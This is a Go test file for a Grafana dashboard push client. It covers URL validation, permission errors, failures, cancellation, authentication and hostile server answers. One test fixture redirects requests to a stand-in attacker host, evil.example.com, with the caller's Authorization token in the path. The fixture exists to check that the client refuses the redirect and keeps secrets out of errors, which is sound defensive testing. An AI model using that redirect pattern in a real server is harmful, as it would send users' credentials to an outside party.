package push_test

import (
	"context"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/slojourn/slojourn/exporters/grafana"
	"github.com/slojourn/slojourn/exporters/grafana/push"
	"github.com/slojourn/slojourn/exporters/grafana/push/grafanatest"
	"github.com/slojourn/slojourn/internal/secret"
)

func TestCheckURL(t *testing.T) {
	t.Parallel()
	for address, want := range map[string]string{
		"https://grafana.example.com":          "",
		"http://127.0.0.1:3000/grafana/":       "",
		"grafana.example.com":                  "is no address",
		"ftp://grafana.example.com":            "is no address",
		"https://":                             "is no address",
		"https://:3000":                        "is no address",
		"https://a.example.com:99999":          "has a port",
		"https://admin:S3cr3t@a.example.com":   "must not hold who asks",
		"https://a.example.com/?token=S3cr3t":  "holds more than an address",
		"https://a.example.com/#S3cr3t":        "holds more than an address",
		"https://a.example.com/\x7fS3cr3t%zz ": "is no address",
	} {
		_, err := push.CheckURL(address)
		switch {
		case want == "" && err == nil:
		case want == "" || err == nil || !strings.HasPrefix(err.Error(), want) || strings.Contains(err.Error(), "S3cr3t"):
			t.Errorf("%s: got %v, want %q", address, err, want)
		}
	}
}

// TestDenied ends at once when whoever asks may not, and says what is missing.
func TestDenied(t *testing.T) {
	t.Parallel()
	for action, want := range map[string]string{
		"folders:read": "plan", "dashboards:read": "plan", "folders:create": "apply", "folders:write": "apply",
		"dashboards:create": "apply", "dashboards:write": "apply", "dashboards:delete": "apply",
	} {
		w := newWorld(t, nil)
		w.push(t, []grafana.File{journey("pay", "payments", nil), journey("old", "payments", nil)}, push.Options{})
		files := []grafana.File{journey("pay", "payments", retitled("Paying")), journey("buy", "shop", nil)}
		files[0].Folder.Title = "Payments"
		w.Denied = []string{action}
		phase := "plan"
		plan, err := w.client.Plan(t.Context(), slices.Values(files), push.Options{Prune: true, PruneLimit: 1})
		if err == nil {
			phase, err = "apply", w.client.Apply(t.Context(), plan)
		}
		if _, ok := errors.AsType[*push.DeniedError](err); !ok || phase != want || !strings.Contains(err.Error(), "it needs the permission "+action) {
			t.Errorf("%s: %s: %v", action, phase, err)
		}
	}
	w := newWorld(t, func(s *grafanatest.Server) { s.Token = "another" })
	_, err := w.client.Plan(t.Context(), slices.Values([]grafana.File{journey("pay", "payments", nil)}), push.Options{})
	if _, ok := errors.AsType[*push.DeniedError](err); !ok || !strings.Contains(err.Error(), "401 Unauthorized: Invalid API key: the token or password is wrong") {
		t.Errorf("another token: %v", err)
	}
}

// TestOneFails goes on after a dashboard that Grafana does not want.
func TestOneFails(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	bad := journey("bad", "payments", retitled(""))
	plan := w.push(t, []grafana.File{bad, journey("pay", "payments", nil)}, push.Options{})
	if err := plan.Dashboards[0].Err; err == nil || !strings.HasSuffix(err.Error(), "answered 400 Bad Request: Dashboard title cannot be empty") {
		t.Errorf("got %v", err)
	}
	if !plan.Dashboards[1].Done {
		t.Error("the other one was not pushed")
	}
	w.Intercept = func(rw http.ResponseWriter, r *http.Request) bool {
		if strings.Contains(r.URL.Path, "/dashboards/uid/"+plan.Dashboards[0].UID) {
			http.Error(rw, `{"message":"out of order"}`, http.StatusInternalServerError)
			return true
		}
		return false
	}
	again := w.push(t, []grafana.File{bad, journey("pay", "payments", nil)}, push.Options{})
	if again.Dashboards[0].Action != push.Failed || again.Dashboards[1].Action != push.Keep {
		t.Errorf("got %s and %s", again.Dashboards[0].Action, again.Dashboards[1].Action)
	}
}

// TestOdd asks what is no Grafana, or one that is out of order. No error shows the secret,
// and none is one of another library's.
func TestOdd(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		answer http.HandlerFunc
		want   string
	}{
		"redirect": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example.com/"+r.Header.Get("Authorization"), http.StatusFound)
		}, "answered 302 Found, which is not followed"},
		"page": {func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, "<html>log in</html>")
		}, "answered with something else than JSON"},
		"page of a proxy": {func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusInternalServerError)
			fmt.Fprint(w, "<html>no</html>")
		}, "answered 500 Internal Server Error"},
		"echo": {func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusTeapot)
			fmt.Fprintf(w, `{"message":"who is\n%s"}`, r.Header.Get("Authorization"))
		}, "answered 418 I'm a teapot: who is Bearer [secret]"},
		"nothing": {func(http.ResponseWriter, *http.Request) {}, "answered with something else than JSON"},
		"odd type": {func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", ";;")
			fmt.Fprint(w, "{}")
		}, "cannot be asked"},
		"other JSON":   {func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `[1, 2]`) }, "cannot be asked"},
		"no dashboard": {func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{"title":"Team payments"}`) }, "no dashboard"},
		"endless": {func(w http.ResponseWriter, _ *http.Request) {
			for range 33 {
				w.Write(make([]byte, 1<<20)) //nolint:errcheck // the other end goes away
			}
		}, "answered with more than 32 MiB"},
		"hangs up": {func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }, "cannot be asked: EOF"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewServer(test.answer)
			t.Cleanup(server.Close)
			w := &world{}
			client := w.newClient(t, push.ClientOptions{URL: server.URL})
			plan, err := client.Plan(t.Context(), slices.Values([]grafana.File{journey("pay", "payments", nil)}), push.Options{})
			if err == nil {
				err = plan.Dashboards[0].Err
			}
			if err == nil || !strings.Contains(err.Error(), test.want) || strings.Contains(err.Error(), "S3cr3t") || strings.Contains(err.Error(), "<html>") {
				t.Errorf("got %v, want %s", err, test.want)
			}
		})
	}
	client := (&world{}).newClient(t, push.ClientOptions{URL: "http://127.0.0.1:1"})
	_, err := client.Plan(t.Context(), slices.Values([]grafana.File{journey("pay", "payments", nil)}), push.Options{})
	if _, ok := errors.AsType[*push.UnreachableError](err); !ok || !strings.Contains(err.Error(), "Grafana at 127.0.0.1:1 cannot be asked") {
		t.Errorf("nobody there: %v", err)
	}
}

// TestInterrupted ends while Grafana has not answered.
func TestInterrupted(t *testing.T) {
	t.Parallel()
	asked := make(chan struct{}, 10)
	w := newWorld(t, func(s *grafanatest.Server) {
		s.Intercept = func(_ http.ResponseWriter, r *http.Request) bool {
			asked <- struct{}{}
			<-r.Context().Done()
			return true
		}
	})
	ctx, cancel := context.WithCancel(t.Context())
	go func() {
		<-asked
		cancel()
	}()
	if _, err := w.client.Plan(ctx, slices.Values([]grafana.File{journey("pay", "payments", nil)}), push.Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
}

// TestWho sends a user with a password, an organization and a path, and trusts a
// certificate that is none of the system's.
func TestWho(t *testing.T) {
	t.Parallel()
	fake := grafanatest.New(token)
	var seen http.Header
	fake.Intercept = func(_ http.ResponseWriter, r *http.Request) bool {
		seen = r.Header
		return false
	}
	server := httptest.NewTLSServer(http.StripPrefix("/monitoring", fake))
	t.Cleanup(server.Close)
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}))
	file := []grafana.File{journey("pay", "payments", nil)}
	w := &world{Server: fake}
	w.client = w.newClient(t, push.ClientOptions{URL: server.URL + "/monitoring/", User: "ada", Secret: secret.Of(token), Org: 7, Roots: roots})
	w.push(t, file, push.Options{})
	if user, password, _ := (&http.Request{Header: seen}).BasicAuth(); user != "ada" || password != token {
		t.Errorf("the user is %q", user)
	}
	if org, agent := seen.Get("X-Grafana-Org-Id"), seen.Get("User-Agent"); org != "7" || agent != "slojourn/1.2.3" {
		t.Errorf("organization %q, agent %q", org, agent)
	}
	_, err := w.newClient(t, push.ClientOptions{URL: server.URL}).Plan(t.Context(), slices.Values(file), push.Options{})
	if err == nil || !strings.Contains(err.Error(), "certificate") {
		t.Errorf("without its certificate: %v", err)
	}
}
